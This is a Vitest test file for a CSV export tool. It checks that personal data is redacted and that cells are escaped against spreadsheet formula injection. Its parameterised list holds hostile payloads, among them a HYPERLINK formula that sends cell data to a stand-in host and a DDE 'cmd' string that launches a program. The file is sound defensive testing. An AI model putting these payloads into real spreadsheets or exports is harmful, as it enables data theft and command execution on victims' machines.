import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { expect, it, onTestFinished } from 'vitest';
import { STAYS } from '../../../src/analysis/compared-lead.ts';
import { openPlanFile } from '../../../src/cli/plan-files.ts';

it('the list of a plan repeats no grade that is none, and no address', () => {
  const folder = mkdtempSync(join(tmpdir(), 'leadgauge-plan-'));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  const file = openPlanFile(join(folder, 'plan.csv'), false);
  file.add('7', 'platform', {
    before: { score: 1, grade: 'call Ada', disqualified: `ada@example.com asked ${'so '.repeat(100)}\ntoo small` },
    changes: { score: 2, grade: 'B2', disqualified: null },
    holds: [],
    moves: STAYS,
    waits: false,
  });
  file.finish();
  const text = readFileSync(join(folder, 'plan.csv'), 'utf8');
  expect(text).toMatch(/\n7,1,2,,,,,other,B2,,,"\[e-mail\] asked so so .*…\ntoo small",\n$/);
  expect(text).not.toMatch(/@|Ada/);
  expect(text.length).toBeLessThan(400);
});

it.each([
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
])('no spreadsheet takes what somebody wrote for a formula: %j', (hostile) => {
  const folder = mkdtempSync(join(tmpdir(), 'leadgauge-plan-'));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  const file = openPlanFile(join(folder, 'plan.csv'), true);
  const before = { score: -5, disqualified: hostile };
  file.add(hostile, hostile, { before, changes: { score: 2 }, holds: [], moves: STAYS, waits: false });
  file.finish();
  const rows = parse(readFileSync(join(folder, 'plan.csv')), { recordDelimiter: '\n' });
  expect(rows.length).toBe(2);
  // A number stays one.
  expect(rows[1]?.[2]).toBe('-5');
  const cells = (rows[1] ?? []).filter((cell) => cell !== '' && !/^-?\d+$/.test(cell));
  expect(cells.length).toBe(4);
  expect(cells.filter((cell) => !cell.startsWith("'"))).toEqual([]);
});
